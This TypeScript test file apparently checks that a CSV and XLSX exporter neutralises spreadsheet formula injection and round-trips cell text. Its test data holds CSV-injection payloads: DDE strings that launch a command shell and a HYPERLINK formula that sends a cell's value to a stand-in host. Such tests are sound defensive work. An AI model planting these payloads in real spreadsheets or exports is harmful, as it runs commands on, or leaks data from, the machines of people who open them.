import { existsSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { readCsv } from '../imports/read-csv.node.ts';
import { readXlsx } from '../imports/read-xlsx.node.ts';
import { guardFormula, unguardFormula } from '../fields/formula-guard.ts';
import { csvLine } from './write-csv.node.ts';
import { xlsxOf } from './write-xlsx.node.ts';

const starts = ['=', '+', '-', '@', '\t=', '＝', '＋', '－', '＠', "'=", "''-"];
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"a;b")', 'a,b\n=2+3', '45 20 30 40 50'];
const inside = [
  'x;=1+1',
  'x\t=1+1',
  'x|=1+1',
  'x,=1+1',
  'x"=1+1',
  'x"";"=1+1',
  'x\r\n=1+1',
  "it's",
  "'quoted'",
  'x\n"=1+1',
  "x\n\n'=1+1",
  'list:\n- one\n- two',
  'DDE ("cmd";"/C calc";"!A0")A0',
];
const own = [...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)), ...inside];

const corpus = new URL('../../../../../shared/data/csv-injection/csv-payload.txt', import.meta.url);
const sets: [string, readonly string[]][] = [['generated here', own]];
if (existsSync(corpus))
  sets.push([
    'of the corpus',
    readFileSync(corpus, 'utf8')
      .split(/\r?\n/)
      .filter((line) => line.trim() !== ''),
  ]);
else process.stderr.write('SKIPPED: the corpus of formulas (it is not beside the repository; others are made here)\n');

const file = (texts: readonly string[]) =>
  csvLine(['First', 'Text', 'Number']) + texts.map((text) => csvLine(['a', text, -1.5])).join('');
/** What spreadsheets run, whichever delimiter they go by. */
const isRun = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell) && cell !== '-1.5';

test.each(sets)('formulas %s are run by no spreadsheet, and come back as they were', (_, texts) => {
  expect(texts.length).toBeGreaterThan(5);
  const text = file(texts);
  const read = readCsv(text);
  if (!read.ok) throw new Error(read.error.message);
  expect(read.value.rows.map(({ cells }) => cells[1])).toEqual(texts.map((each) => each.trim()));
  expect(read.value.rows.every(({ cells }) => cells[2] === '-1.5')).toBe(true);
  for (const delimiter of [',', ';', '\t', '|'])
    expect(cellsBy(text, delimiter).filter(isRun), `cut at ${JSON.stringify(delimiter)}`).toEqual([]);
});

test.each(sets)('formulas %s are text in a workbook, and come back as they were', async (_, texts) => {
  async function* rows() {
    yield ['Text', 'Number'];
    for (const each of texts) yield [each, -1.5];
  }
  const bytes = new Uint8Array(await new Response(xlsxOf(rows())).arrayBuffer());
  const read = await readXlsx(bytes);
  if (!read.ok) throw new Error(read.error.message);
  expect(read.value.rows.map(({ cells }) => cells[0]?.replaceAll('\r\n', '\n'))).toEqual(
    texts.map((each) => each.replaceAll('\r\n', '\n').trim()),
  );
});

/** Cells as a spreadsheet that knows quotes takes them apart, by any delimiter. */
function cellsBy(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted, isFresh] = ['', false, true];
  for (let at = 0; at < text.length; at++) {
    const letter = text[at] ?? '';
    if (isQuoted) {
      if (letter !== '"') cell += letter;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (letter === '"' && isFresh) isQuoted = true;
    else if (letter === delimiter || letter === '\n') {
      cells.push(cell);
      [cell, isFresh] = ['', true];
      continue;
    } else if (letter !== '\r') cell += letter;
    isFresh = false;
  }
  return [...cells, cell];
}

test('whatever is guarded comes back as it was', () => {
  const letters = [...'=+-@\'";|\t\r\n＝ax '];
  let seed = 7;
  const random = (below: number) => (seed = (seed * 48271) % 2147483647) % below;
  for (let nth = 0; nth < 20_000; nth++) {
    const text = Array.from({ length: random(9) }, () => letters[random(letters.length)]).join('');
    expect(unguardFormula(guardFormula(text)), JSON.stringify(text)).toBe(text);
  }
});
